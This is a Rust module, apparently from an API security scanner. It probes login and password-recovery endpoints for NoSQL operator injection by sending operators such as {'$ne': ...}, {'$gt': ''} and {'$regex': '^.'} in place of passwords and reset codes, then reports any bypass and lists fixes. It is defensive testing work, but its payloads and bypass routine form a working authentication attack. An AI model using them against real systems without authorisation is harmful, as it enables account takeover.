//! Operators in place of what only one should know: a password, a code.
//!
//! Where a code is looked up as it comes, `{"$ne": ""}` is every code. For the account whose recovery began that sets a new
//! password, and in place of a password it logs in. The account is one of the run, and its password stays as it is.

use serde_json::Value;

use super::nosql_operator::with_operator;
use crate::answer::Reply;
use crate::attack::{Attack, Hole, Tried};
use crate::attacks::aim::is_called;
use crate::door::{GuideDoor, ShutBy};
use crate::prober::{Person, Prober, Stop};
use crate::request::{Draft, Slot};
use crate::session::{LogInForm, session_of};
use crate::surface::shape::fold;
use crate::surface::{Endpoint, Role};
use crate::who::Who;
use report::Level;

pub(super) const ATTACK: Attack = Attack {
    name: "nosql-secret",
    door: GuideDoor::Firewall,
    shut_by: ShutBy::Code,
    thought: "If I send an operator instead of a password or a code, am I let in?",
    level: Level::Critical,
    references: &["CWE-943", "CWE-287", "API2:2023", "API8:2023"],
    mend_in_code: "Take passwords and codes only if they are texts; compare them in the code, and count the tries.",
    mend_at_gate: "The door injection refuses operators by its detector nosql; keep [doors] injection in enforce.",
    run: |p, tried| Box::pin(run(p, tried)),
};

/// Pairs of operators with their operands: what every secret is, and what none is.
const PAIRS: [[(&str, &str); 2]; 3] = [
    [("$ne", "dwkq7v"), ("$eq", "dwkq7v")],
    [("$gt", ""), ("$lt", "")],
    [("$regex", "^."), ("$regex", "^dwkq7v$")],
];

/// What an API answers when it has let somebody in.
type LetsIn = fn(&Reply) -> bool;

async fn run(p: &Prober<'_>, tried: &mut Tried) -> Result<(), Stop> {
    let mut people = p.people().into_iter().filter_map(|who| p.person(who));
    let person = people.find(|person| person.account.credentials.is_some());
    let name = match person.as_ref().and_then(|person| person.account.credentials.clone()) {
        Some((name, _)) => Some(name),
        // One that is registered for it.
        None => match p.registration().filter(|_| !p.options.is_safe) {
            Some((_, draft)) => {
                p.register(&draft).await?.and_then(|new| new.credentials).map(|(name, _)| name)
            }
            None => None,
        },
    };
    let Some(name) = name else {
        tried.not_tried("no account of the run has a password");
        return Ok(());
    };
    for form in LogInForm::all(p.surface).into_iter().take(2) {
        let result = log_in(p, &form, &name, tried).await;
        tried.take(result)?;
    }
    let Some(person) = person else { return Ok(()) };
    for (at, endpoint) in p.surface.with_role(Role::Recover) {
        if p.options.is_safe || !p.options.wants(&endpoint.name()) {
            continue;
        }
        let result = recover(p, at, &person, tried).await;
        tried.take(result)?;
    }
    Ok(())
}

async fn log_in(p: &Prober<'_>, form: &LogInForm, name: &str, tried: &mut Tried) -> Result<(), Stop> {
    let endpoint = p.surface.endpoint(form.endpoint);
    let draft = form.draft(endpoint, name, "dwkq7v");
    try_slot(
        p,
        &draft,
        &form.password,
        &[],
        |reply| reply.is_served && session_of(&reply.answer).is_some(),
        tried,
    )
    .await
}

async fn recover(p: &Prober<'_>, at: usize, person: &Person, tried: &mut Tried) -> Result<(), Stop> {
    let endpoint = p.surface.endpoint(at);
    let Some(code) = leaves_called(endpoint, &["code", "token", "otp", "pin"]).into_iter().next() else {
        return Ok(());
    };
    let Some(draft) = filled(p, at, person).await? else { return Ok(()) };
    let mut begin = Vec::new();
    for (at, endpoint) in p.surface.with_role(Role::Forgot) {
        if p.options.wants(&endpoint.name()) {
            begin.extend(filled(p, at, person).await?);
        }
    }
    let result = try_slot(p, &draft, &code, &begin, |reply| reply.is_served, tried).await;
    // A new password, even the same, may end sessions.
    p.revive().await?;
    result
}

/// A request about this account: its address or name, and its password as the new one.
async fn filled(p: &Prober<'_>, at: usize, person: &Person) -> Result<Option<Draft>, Stop> {
    let endpoint = p.surface.endpoint(at);
    let Some((name, password)) = &person.account.credentials else { return Ok(None) };
    let Some(mut draft) = p.drafts(at, Who::Nobody).await?.into_iter().next() else { return Ok(None) };
    let address = std::iter::once(name.clone()).chain(p.selves(person.who)).find(|known| known.contains('@'));
    for slot in leaves_called(endpoint, &["mail", "user", "login", "account", "name"]) {
        let is_mail = is_called(slot.name(), &["mail"]);
        let text = if is_mail { address.clone().unwrap_or_else(|| name.clone()) } else { name.clone() };
        draft = draft.with(&slot, text);
    }
    for slot in leaves_called(endpoint, &["pass", "pwd", "secret"]) {
        draft = draft.with(&slot, password.clone());
    }
    Ok(Some(draft))
}

/// The leaves of a body whose names have one of these in them.
fn leaves_called(endpoint: &Endpoint, parts: &[&str]) -> Vec<Slot> {
    let leaves = endpoint.body.iter().flat_map(|body| body.shape.leaves());
    let called = leaves.filter(|(at, _)| {
        let name = fold(at.rsplit('/').next().unwrap_or(""));
        parts.iter().any(|part| name.contains(part))
    });
    called.map(|(at, _)| Slot::Body(at)).collect()
}

async fn try_slot(
    p: &Prober<'_>,
    draft: &Draft,
    slot: &Slot,
    begin: &[Draft],
    lets_in: LetsIn,
    tried: &mut Tried,
) -> Result<(), Stop> {
    let operation = p.surface.endpoint(draft.endpoint).name();
    if p.surface.endpoint(draft.endpoint).graphql.is_some() {
        tried.not_tried(format!("{operation}: arguments have types of their own"));
        return Ok(());
    }
    let wrong = draft.with(slot, Value::from("dwkq7v"));
    let refused = p.ask(&wrong, Who::Nobody).await?;
    if lets_in(&refused) || matches!(refused.status(), 404 | 405 | 429) {
        tried.not_tried(format!(
            "{operation}: a wrong value is not refused as such ({})",
            refused.answer.status
        ));
        return Ok(());
    }
    for [(all, of_all), (none, of_none)] in PAIRS {
        let mut shown = None;
        let mut is_held = true;
        for _ in 0..2 {
            for first in begin {
                p.ask(first, Who::Nobody).await?;
            }
            let no = p.ask(&with_operator(draft, slot, none, of_none), Who::Nobody).await?;
            let yes = p.ask(&with_operator(draft, slot, all, of_all), Who::Nobody).await?;
            if !lets_in(&yes) || lets_in(&no) {
                is_held = false;
                tried.shut(&yes.seen);
                break;
            }
            shown.get_or_insert(yes);
        }
        if let (true, Some(reply)) = (is_held, shown) {
            let message = format!("`{all}` passes for the right value, which is not known");
            tried.open(Hole::shown(operation, slot, message, &refused, &reply));
            return Ok(());
        }
    }
    Ok(())
}
